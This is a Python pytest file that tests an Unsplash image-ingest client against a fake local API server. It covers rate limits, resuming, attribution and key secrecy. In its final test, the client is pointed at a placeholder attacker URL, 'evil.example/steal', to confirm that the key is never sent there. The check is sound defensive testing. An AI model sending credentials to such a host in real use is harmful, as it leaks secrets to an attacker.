"""The Unsplash source against a loopback server that answers like the API: pagination,
rate-limit headers, 403 when the hour's quota is spent, download tracking, attribution."""

from __future__ import annotations

import pytest

import gir.data.sources.unsplash as unsplash
from datatrees import KEY, FakeUnsplash
from gir.data.manifest import read_manifest
from gir.errors import GirError
from gir.steps.ingest import ingest
from tests.helpers import run_gir, tiny_params


@pytest.fixture
def api():
    server = FakeUnsplash()
    yield server
    server.server.shutdown()


@pytest.fixture
def fake_time(monkeypatch, api):
    """Sleeps are recorded, not slept; an hour-long sleep resets the server's quota."""
    slept: list[float] = []

    def sleep(seconds: float) -> None:
        slept.append(seconds)
        if seconds >= 3000:
            api.hour_passes()

    monkeypatch.setattr(unsplash, "SLEEP", sleep)
    monkeypatch.setenv("UNSPLASH_ACCESS_KEY", KEY)
    return slept


def _params(api, *extra):
    return tiny_params("data.source=unsplash", f"data.unsplash.api_url={api.url}",
                       "data.unsplash.count=5", "data.unsplash.per_page=2",
                       "data.synth.per_image=1", *extra)


def _api_calls(api):
    return [p for p, _ in api.log if not p.startswith("/img/")]


def test_downloads_tracks_attributes_and_keeps_the_key_secret(api, fake_time, tmp_path):
    ingest(_params(api), tmp_path / "raw")
    df = read_manifest(tmp_path / "raw")
    assert sorted(df["origin_id"]) == [f"ph{i}" for i in range(5)]
    assert sorted(api.tracked) == sorted(df["origin_id"])  # every download was tracked
    row = df[df["origin_id"] == "ph1"].iloc[0]
    assert row["author"] == "Author 1" and row["attribution"] == "Photo by Author 1 on Unsplash"
    assert "unsplash.com/@a1" in row["author_url"] and "utm_source" in row["source_url"]
    assert "Unsplash License" in row["license"] and row["source"] == "unsplash"
    # Pagination: 3 search pages of 2 for 5 photos; 5 tracking calls.
    assert _api_calls(api).count("/search/photos") == 3
    # The CDN never sees the key; nothing written anywhere contains it.
    assert all(auth == "" for p, auth in api.log if p.startswith("/img/"))
    for path in (tmp_path / "raw").rglob("*"):
        if path.is_file():
            assert KEY.encode() not in path.read_bytes(), path
    # 50 requests/hour: every API call after the first waited about 72 s.
    assert len(fake_time) == len(_api_calls(api)) - 1
    assert all(70 < s <= 72 for s in fake_time)


def test_resumable_skips_downloaded_ids(api, fake_time, tmp_path, monkeypatch):
    ingest(_params(api), tmp_path / "raw")
    api.log.clear()
    monkeypatch.delenv("UNSPLASH_ACCESS_KEY")
    ingest(_params(api), tmp_path / "raw")  # enough photos: no key needed, no request made
    assert api.log == []
    monkeypatch.setenv("UNSPLASH_ACCESS_KEY", KEY)
    ingest(_params(api, "data.unsplash.count=7"), tmp_path / "raw")
    images = [p for p, _ in api.log if p.startswith("/img/")]
    assert sorted(images) == ["/img/ph5.jpg", "/img/ph6.jpg"]
    assert len(read_manifest(tmp_path / "raw")) == 7


@pytest.mark.parametrize("report_remaining", [True, False])
def test_rate_limit_exhausted_waits_an_hour_and_continues(tmp_path, monkeypatch,
                                                          report_remaining):
    api = FakeUnsplash(quota=3, report_remaining=report_remaining)
    slept: list[float] = []

    def sleep(seconds):
        slept.append(seconds)
        if seconds >= 3000:
            api.hour_passes()

    monkeypatch.setattr(unsplash, "SLEEP", sleep)
    monkeypatch.setenv("UNSPLASH_ACCESS_KEY", KEY)
    try:
        ingest(_params(api, "data.unsplash.requests_per_hour=100000"), tmp_path / "raw")
    finally:
        api.server.shutdown()
    assert len(read_manifest(tmp_path / "raw")) == 5
    assert any(s >= 3000 for s in slept)
    # With X-Ratelimit-Remaining the client waits before hitting the wall; without, on 403.
    assert (api.forbidden == 0) == report_remaining


def test_gives_up_with_one_line_when_quota_never_returns(api, monkeypatch, tmp_path):
    api.left = api.quota = 0
    monkeypatch.setattr(unsplash, "SLEEP", lambda s: None)
    monkeypatch.setenv("UNSPLASH_ACCESS_KEY", KEY)
    with pytest.raises(GirError, match="rate limit still exhausted") as err:
        ingest(_params(api), tmp_path / "raw")
    assert KEY not in str(err.value)


def test_missing_key_is_one_line_error(api, tmp_path):
    env = {"UNSPLASH_ACCESS_KEY": ""}
    proc = run_gir("ingest", "--out", str(tmp_path / "raw"), "--set", "data.source=unsplash",
                   "--set", f"data.unsplash.api_url={api.url}", cwd=tmp_path, env=env,
                   check=False)
    assert proc.returncode != 0
    assert "UNSPLASH_ACCESS_KEY" in proc.stderr and "Traceback" not in proc.stderr
    assert api.log == []


def test_wrong_key_is_rejected_without_echoing_it(api, monkeypatch, tmp_path):
    monkeypatch.setenv("UNSPLASH_ACCESS_KEY", "wrong-key-XYZ")
    monkeypatch.setattr(unsplash, "SLEEP", lambda s: None)
    with pytest.raises(GirError, match="401") as err:
        ingest(_params(api), tmp_path / "raw")
    assert "wrong-key-XYZ" not in str(err.value)


def test_key_is_never_sent_off_the_api_host():
    client = unsplash.UnsplashClient("http://127.0.0.1:9", KEY, sleep=lambda s: None)
    with pytest.raises(GirError, match="refusing"):
        client.get_json("http://evil.example/steal")
    assert KEY not in repr(client)
